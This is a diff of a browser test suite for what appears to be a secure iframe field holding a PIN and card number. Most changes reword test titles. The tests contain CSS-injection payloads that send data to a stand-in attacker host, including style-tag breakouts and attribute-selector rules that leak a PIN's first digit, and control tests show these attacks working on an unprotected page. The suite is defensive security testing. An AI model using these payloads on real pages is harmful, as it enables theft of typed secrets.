@@ -15,7 +15,7 @@ describe('style', () => {
   /** @param {string} name */
   const isLeaked = (name) => scene.attacker.log().includes(`GET /leak?${name}`);
 
-  row('21 style values that fetch, match or end something', ({ attack, control }) => {
+  row('21 style values that load, select or end something', ({ attack, control }) => {
     /** @param {string} url */
     const hostile = (url) => [
       `url(${url})`,
@@ -39,7 +39,7 @@ describe('style', () => {
       `</style><img src=${url}>`,
     ];
 
-    attack('all are refused as a whole, and nothing is asked for', async () => {
+    attack('all are refused as a whole, and nothing is requested', async () => {
       const victim = await scene.victim('pin');
       await victim.type('pin', PIN);
       const values = hostile(scene.evil('leak?vault'));
@@ -70,7 +70,7 @@ describe('style', () => {
       assert.ok(!isLeaked('vault'));
       assert.equal(await victim.field('pin').value(), PIN);
     });
-    attack('texts for people are texts', async () => {
+    attack('texts of the page are shown as text', async () => {
       const text = `<img src=${scene.evil('leak?label')}><style>*{background:url(${scene.evil('leak?label')})}</style>`;
       const victim = await scene.victimPage();
       const fields = [
@@ -88,7 +88,7 @@ describe('style', () => {
         await victim.inside('pin', "return document.querySelector('label').textContent"),
         text.slice(0, 80),
       );
-      // One style is the field's own, in its head and named by hash in its policy.
+      // The one style element is the field's own, in its head, and the policy names its hash.
       assert.equal(
         await victim.inside('pin', "return document.querySelectorAll('img, body style').length"),
         0,
@@ -99,29 +99,38 @@ describe('style', () => {
       );
       assert.ok(!isLeaked('label'));
     });
-    attack("words in place of the frame's are texts, and stand nowhere but there", async () => {
-      const text = `<img src=${scene.evil('leak?word')}><style>*{background:red}</style>`.slice(
-        0,
-        80,
-      );
-      const words = { cardNumber: text, show: text, copy: text, hidden: '4 1 1 1', covered: text };
-      const victim = await scene.viewedCard({ session: { words } });
-      const READ = `
+    attack(
+      "words of the page that replace the frame's words are shown as text, and only in their places",
+      async () => {
+        const text = `<img src=${scene.evil('leak?word')}><style>*{background:red}</style>`.slice(
+          0,
+          80,
+        );
+        const words = {
+          cardNumber: text,
+          show: text,
+          copy: text,
+          hidden: '4 1 1 1',
+          covered: text,
+        };
+        const victim = await scene.viewedCard({ session: { words } });
+        const READ = `
         const at = (selector, name) => [...document.querySelectorAll(selector)].map((e) => name ? e.getAttribute(name) : e.textContent);
         return [at(".label"), at("button", "aria-label"), at(".seen"), at("img, body style")];`;
-      const [labels, buttons, seen, made] = await victim.inside('number', READ);
-      assert.deepEqual([labels, buttons], [[text], [`${text}: ${text}`, `${text}: ${text}`]]);
-      assert.deepEqual(made, []);
-      assert.ok(/^[•\s]+$/.test(seen[0]), 'the mask is no word');
-      assert.ok(
-        (await victim.reveal('number')).seen.startsWith(CARD.number.slice(0, 4)),
-        'and neither is the number',
-      );
-      await scene.settle();
-      assert.ok(!isLeaked('word'));
-    });
+        const [labels, buttons, seen, made] = await victim.inside('number', READ);
+        assert.deepEqual([labels, buttons], [[text], [`${text}: ${text}`, `${text}: ${text}`]]);
+        assert.deepEqual(made, []);
+        assert.ok(/^[•\s]+$/.test(seen[0]), 'the mask is not a word');
+        assert.ok(
+          (await victim.reveal('number')).seen.startsWith(CARD.number.slice(0, 4)),
+          'the number is not a word',
+        );
+        await scene.settle();
+        assert.ok(!isLeaked('word'));
+      },
+    );
     attack(
-      'words that turn, break or stretch what stands beside them are refused, and the session with them',
+      'words that reorder, break or stretch the text around them are refused with the session',
       async () => {
         const victim = await scene.victimPage();
         const token = await scene.tokenFor('pin');
@@ -137,23 +146,26 @@ describe('style', () => {
         }
       },
     );
-    control('a page that writes them into a style sheet asks the attacker', async () => {
-      await scene.visit('/clipboard.html');
-      await scene.driver.executeScript(
-        "const style = document.createElement('style');" +
-          "style.textContent = 'input { color: ' + arguments[0] + ' }';" +
-          'document.head.append(style);',
-        `red; background: url(${scene.evil('leak?plain')})`,
-      );
-      await until('it is asked', () => isLeaked('plain'));
-    });
+    control(
+      'a page that writes them into a style sheet sends a request to the attacker',
+      async () => {
+        await scene.visit('/clipboard.html');
+        await scene.driver.executeScript(
+          "const style = document.createElement('style');" +
+            "style.textContent = 'input { color: ' + arguments[0] + ' }';" +
+            'document.head.append(style);',
+          `red; background: url(${scene.evil('leak?plain')})`,
+        );
+        await until('it is asked', () => isLeaked('plain'));
+      },
+    );
   });
 
-  row('22 attribute selectors on what is typed or shown', ({ attack, control }) => {
+  row('22 attribute selectors on typed or shown values', ({ attack, control }) => {
     const ATTRIBUTES = `
       return [...document.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.value)).concat(document.title);`;
 
-    attack('no attribute ever holds it', async () => {
+    attack('no attribute ever holds the value', async () => {
       const pin = await scene.victim('pin');
       await pin.type('pin', PIN);
       await pin.field('pin').toggle();
@@ -172,22 +184,19 @@ describe('style', () => {
       for (const part of [CARD.number, ...seen.split(' ')])
         assert.ok(!attributes.includes(part), attributes);
     });
-    control(
-      'of an input that reflects its value, a style sheet tells the first digit',
-      async () => {
-        await scene.visit('/clipboard.html');
-        const { driver } = scene;
-        await driver.executeScript(
-          `const input = document.querySelector("input");
+    control('a style sheet reads the first digit of an input that reflects its value', async () => {
+      await scene.visit('/clipboard.html');
+      const { driver } = scene;
+      await driver.executeScript(
+        `const input = document.querySelector("input");
         input.addEventListener("input", () => input.setAttribute("value", input.value));
         const rules = Array.from({ length: 10 }, (_, digit) => \`input[value^="\${digit}"] { background: url(\${arguments[0]}\${digit}) }\`);
         document.head.append(Object.assign(document.createElement("style"), { textContent: rules.join("\\n") }));`,
-          scene.evil('leak?first'),
-        );
-        await clickOn(driver, await driver.findElement(By.css('input')));
-        await press(driver, PIN);
-        await until('the attacker knows it', () => isLeaked(`first${PIN[0]}`));
-      },
-    );
+        scene.evil('leak?first'),
+      );
+      await clickOn(driver, await driver.findElement(By.css('input')));
+      await press(driver, PIN);
+      await until('the attacker knows it', () => isLeaked(`first${PIN[0]}`));
+    });
   });
 });
